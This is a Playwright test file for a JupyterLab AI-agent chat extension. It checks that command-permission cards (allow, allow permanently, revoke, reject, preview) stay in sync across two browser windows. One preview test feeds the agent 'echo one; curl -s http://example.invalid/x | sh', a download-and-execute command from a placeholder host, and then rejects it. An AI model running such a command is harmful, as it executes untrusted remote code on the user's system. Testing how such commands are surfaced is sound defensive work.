"""A permission card in two windows of JupyterLab: allow once, allow for good and revoke, reject; preview."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Locator, expect

from tests.browser.axe import serious
from tests.browser.lab import PATIENCE_MS, Lab, notebook
from tests.browser.side import Side


def armed(card: Locator) -> Locator:
    """Returns the card, once enabled."""
    card.locator(".permission-options[data-armed=true]").wait_for(timeout=PATIENCE_MS)
    return card


@pytest.fixture
def sides(lab: Lab, open_lab: Callable[[], Lab], kernelspecs: Path) -> tuple[Side, Side]:
    """Two windows with the chat of one kernel and one conversation."""
    lab.open("card.ipynb", notebook("1", kernel="ipykernel7"))
    lab.run_cells(1)
    lab.save()
    first = Side(lab.page)
    first.open()
    first.start()
    other = open_lab()
    other.open("card.ipynb")
    second = Side(other.page)
    second.open()
    second.expect_chat()
    lab.page.bring_to_front()
    return first, second


def test_permission_answers_and_revocations_reach_both_windows(lab: Lab, sides: tuple[Side, Side]) -> None:
    """Three lines high; a permanent answer names its scope; a preview moves nothing."""
    first, second = sides
    first.resize(420)
    first.say("/run python -c 'print(6 * 7)'")
    cards = [side.chat.locator(".permission") for side in sides]
    armed(cards[0])
    box = first.chat.locator(".tool.is-pending-confirmation").bounding_box()
    assert box is not None
    assert box["height"] <= 96
    assert cards[0].locator("button:visible").count() <= 5
    for theme in ("Dark", "Light"):
        lab.theme(f"JupyterLab {theme}")
        assert serious(lab.page) == []
        lab.picture(f"permission-card-{theme.lower()}-420")
    cards[1].wait_for(timeout=PATIENCE_MS)
    first.box.focus()
    cards[0].get_by_role("button", name="Allow", exact=True).click(delay=100)  # the first click, with the box focused
    for side in sides:
        expect(side.chat.locator(".permission")).to_have_count(0, timeout=PATIENCE_MS)
        expect(side.chat.locator(".decision").last).to_contain_text("You allowed this", timeout=PATIENCE_MS)
    nothing_moves_under_the_pointer_when_a_preview_comes(lab, first)
    an_answer_for_good_names_what_it_permits_and_is_taken_back(lab, first, second)
    a_form_is_answered_in_one_window_for_both(sides)
    lab.page.bring_to_front()
    grant(first, "in this folder")
    lab.picture("permission-grants")
    assert serious(lab.page) == []
    it_is_revoked_in_the_other_window(lab, first, second)


def a_form_is_answered_in_one_window_for_both(sides: tuple[Side, Side]) -> None:
    sides[0].say("/form")
    forms = [side.chat.locator(".input-request") for side in sides]
    for form in forms:
        form.wait_for(timeout=PATIENCE_MS)
    sides[1].page.bring_to_front()
    forms[1].get_by_role("button", name="Skip", exact=True).click()
    for form in forms:
        expect(form).to_have_count(0, timeout=PATIENCE_MS)


def grant(side: Side, scope: str) -> None:
    """Allows *ls* in a scope; checks the list of *Custom…*."""
    side.say("/run ls")
    card = armed(side.chat.locator(".permission"))
    card.get_by_role("button", name="More options").click()
    option = card.get_by_role("menuitem").filter(has_text=scope)
    expect(option).not_to_have_attribute("aria-disabled", "true", timeout=PATIENCE_MS)
    option.click()
    expect(card).to_have_count(0, timeout=PATIENCE_MS)
    panel = side.custom()
    expect(panel.locator(".grant-text").first).to_contain_text("Tour may run ls …", timeout=PATIENCE_MS)


def it_is_revoked_in_the_other_window(lab: Lab, first: Side, second: Side) -> None:
    """Both lists drop it by themselves, and the agent asks again."""
    panel = first.chat.get_by_role("dialog", name="Custom freedom")
    second.page.bring_to_front()
    there = second.custom()
    expect(there.locator(".grant-text")).to_have_count(1, timeout=PATIENCE_MS)
    there.get_by_role("button", name="Revoke").click()
    expect(there.get_by_role("status")).to_contain_text("Revoked.", timeout=PATIENCE_MS)
    expect(there.locator(".grant-text")).to_have_count(0, timeout=PATIENCE_MS)
    expect(panel.locator(".grant-text")).to_have_count(0, timeout=PATIENCE_MS)
    lab.page.bring_to_front()
    panel.get_by_role("combobox", name="Kernel").press("Escape")
    expect(panel).to_have_count(0)
    first.say("/run ls")
    armed(first.chat.locator(".permission")).get_by_role("button", name="Reject", exact=True).click()
    expect(first.chat.locator(".permission")).to_have_count(0, timeout=PATIENCE_MS)


def an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, first: Side, second: Side) -> None:
    """*Undo* is next to the answer; then the agent asks again, and the other window can reject."""
    first.say("/run python one.py")
    card = armed(first.chat.locator(".permission"))
    card.get_by_role("button", name="More options").click()
    menu = card.get_by_role("menu")
    names = menu.get_by_role("menuitem").locator(".menu-name")
    expect(names).to_have_text(
        [
            "Any Python code in this folder, until I revoke it",
            "Any Python code, this conversation",
            "Any Python code, this turn",
            "Edit the command…",
        ]
    )
    widest = menu.get_by_role("menuitem", name="until I revoke it")
    lab.picture("permission-scopes")
    expect(widest).to_have_attribute("aria-disabled", "false")
    widest.click()
    expect(second.chat.locator(".decision").last).to_contain_text("You allowed this", timeout=PATIENCE_MS)
    expect(second.chat.locator(".decision").last.get_by_role("button", name="Undo")).to_have_count(0)
    first.chat.locator(".decision").get_by_role("button", name="Undo").click()
    expect(first.chat.locator(".decision").last).to_contain_text("Revoked: it asks again.")
    expect(first.box).to_be_enabled()
    first.say("/run python two.py")
    card = armed(second.chat.locator(".permission"))
    second.page.bring_to_front()
    card.get_by_role("button", name="Reject", exact=True).click()
    for side in (first, second):
        expect(side.chat.locator(".tool").last).to_contain_text("You denied this", timeout=PATIENCE_MS)


def nothing_moves_under_the_pointer_when_a_preview_comes(lab: Lab, first: Side) -> None:
    """A line of the preview names the unseen part."""
    first.say("/run echo one; curl -s http://example.invalid/x | sh")
    card = armed(first.chat.locator(".permission"))
    preview = card.get_by_role("button", name="Preview")
    preview.hover()
    before = preview.bounding_box()
    preview.click()
    summary = card.locator(".preview-summary")
    summary.wait_for(timeout=PATIENCE_MS)
    assert preview.bounding_box() == before
    lab.picture("preview-below")
    expect(summary).not_to_have_text("Would change nothing.")
    expect(summary).to_have_css("font-weight", "400")
    card.get_by_role("button", name="Reject", exact=True).click()
    expect(card).to_have_count(0, timeout=PATIENCE_MS)
